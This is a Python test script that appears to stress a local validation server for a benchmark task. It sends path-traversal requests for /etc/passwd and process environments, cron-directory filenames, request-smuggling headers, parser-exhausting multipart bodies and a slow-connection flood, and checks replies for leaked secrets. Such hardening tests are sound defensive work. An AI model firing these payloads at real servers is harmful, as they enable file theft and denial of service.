"""Abuses the validation server: malformed, endless, huge and simultaneous requests, and paths that lead out."""

PORT = int(re.findall(r":(\d+)/", os.environ.get("VALIDATION_URL", "http://localhost:5000/validate"))[0])
GOOD = read("input/sample_submission.csv")
END = b"\r\n\r\n"


def send(*pieces, wait=3.0):
    """Raw bytes, and what comes back within a while."""
    said = b""
    with socket.create_connection(("127.0.0.1", PORT), timeout=wait) as connection:
        try:
            for piece in pieces:
                connection.sendall(piece)
            connection.shutdown(socket.SHUT_WR)
            while piece := connection.recv(65536):
                said += piece
        except OSError:
            pass
    return said


def upload(content=GOOD, name=b"s.csv", field=b"file", path=b"/validate", extra=b""):
    """An upload as a browser makes it."""
    body = b'--b\r\nContent-Disposition: form-data; name="' + field + b'"; filename="' + name + b'"' + END
    body += content + b"\r\n--b--\r\n"
    head = b"POST " + path + b" HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
    return head + extra + b"Content-Length: %d" % len(body) + END + body


def leak(said):
    """Whether an answer holds what it should not."""
    return (
        said[:300]
        if re.search(rb"(root:|Traceback|driver\.pyz|/run/|HTTP/1\.1 200.*(passwd|environ))", said, re.S)
        else ""
    )


def paths():
    """Files by the server's paths and by names of uploads."""
    for path in (b"/../../etc/passwd", b"/%2e%2e/%2e%2e/etc/passwd", b"//etc/passwd", b"/validate/../../proc/1/environ",
                 b"http://127.0.0.1:2375/version", b"/proc/self/environ", b"/\0", b"*", b"/validate?file=/etc/passwd"):  # fmt: skip
        if loot := leak(send(b"GET " + path + b" HTTP/1.1\r\nHost: x" + END)):
            return loot
    for name in (
        b"../../../tmp/attest-planted",
        b"/etc/cron.d/attest-planted",
        b"\0",
        b"x" * 70000,
        b"\x1b[2J",
    ):
        if loot := leak(send(upload(name=name))):
            return loot
    return ""


def methods():
    """Methods that nobody asked for."""
    for method in (b"PUT", b"DELETE", b"TRACE", b"CONNECT", b"OPTIONS", b"PATCH", b"PROPFIND", b"A" * 70000):
        if loot := leak(send(method + b" /validate HTTP/1.1\r\nHost: x" + END)):
            return loot
    return ""


def smuggling():
    """Two lengths, lengths that lie, pieces, a second request inside the first."""
    inner = upload()
    for extra in (b"Content-Length: 5\r\n", b"Transfer-Encoding: chunked\r\n", b"Content-Length: -1\r\n",
                  b"Expect: 100-continue\r\n", b"Content-Length: 99999999999999999999\r\n", b" folded: x\r\n"):  # fmt: skip
        said = send(upload(extra=extra) + inner)
        if loot := leak(said):
            return loot
        if said.count(b'"valid": true') > 2:
            return f"more verdicts than requests: {said[:200]!r}"
    return ""


def huge():
    """Headers and lines without end."""
    for pieces in ([b"GET / HTTP/1.1\r\n", *[b"X: " + b"a" * 60000 + b"\r\n"] * 120], [b"G" * 1_000_000],
                   [b"POST /validate HTTP/1.1\r\nContent-Length: 999999999\r\n", b"Content-Type: multipart/form-data; boundary=b",
                    END, b"x" * 5_000_000]):  # fmt: skip
        send(*pieces, wait=2.0)
    return ""


def parts():
    """Bodies with very many parts, and with none."""
    many = b'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\nx\r\n' * 20000 + b"--b--\r\n"
    head = b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: "
    for body in (many, b"", b"--b--", b"--b\r\n" * 10000, b"\r\n" * 50000):
        send(head + b"%d" % len(body) + END + body, wait=5.0)
    return ""


def costly():
    """Bodies that a careless parser reads over and over: an honest request must not wait for them."""
    head = b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: "
    quotes = b'--b\r\nContent-Disposition: form-data; a="' + b";" * 60000 + b"\r\n\r\n\r\n--b--"
    parts = (b"--b\r\n" * 12000 + END) * 3
    for body in (parts, parts, quotes, quotes):
        send(head + b"%d" % len(body) + END + body, wait=0.5)
    head = b'POST /validate HTTP/1.1\r\nContent-Length: 1\r\nContent-Type: multipart/form-data; a="'
    send(head + b";" * 60000 + b"; boundary=b" + END + b"x", wait=0.5)
    return still_there()


def parameters():
    """Headers at which parsers fail: each has to have an answer."""
    for said in (b"boundary*=undefined''x", b"boundary*=a\0b''x", b"boundary*" + b"9" * 5000 + b"=x"):
        head = b"POST /validate HTTP/1.1\r\nContent-Length: 1\r\nContent-Type: multipart/form-data; "
        if not (answer := send(head + said + END + b"x")) or leak(answer):
            return f"{said[:30]!r}: {answer[:200]!r}"
    return ""


def crowd():
    """A thousand connections that say almost nothing."""
    held = []
    for _ in range(1000):
        try:
            connection = socket.create_connection(("127.0.0.1", PORT), timeout=0.2)
            connection.sendall(b"POST /validate HTTP/1.1\r\nX: ")
            held.append(connection)
        except OSError:
            break
    for connection in held:
        connection.close()
    print(f"{len(held)} connections at once")
    return ""


def still_there():
    """After all that an honest request gets an honest answer: that it does not would be a success."""
    said, end = b"", time.monotonic() + 60
    while time.monotonic() < end:
        try:
            said = send(upload(), wait=10.0)
        except OSError as error:
            said = str(error).encode()
        if b'"valid": true' in said or b'"valid":true' in said:
            return ""
        time.sleep(0.5)
    return f"no verdict for a minute: {said[:200]!r}"


for name, act in {"paths that lead out": paths, "methods": methods, "smuggled requests": smuggling, "huge headers": huge,
                  "strange bodies": parts, "costly bodies": costly, "strange parameters": parameters, "a thousand connections": crowd, "ending the server": still_there}.items():  # fmt: skip
    attempt(name, act)
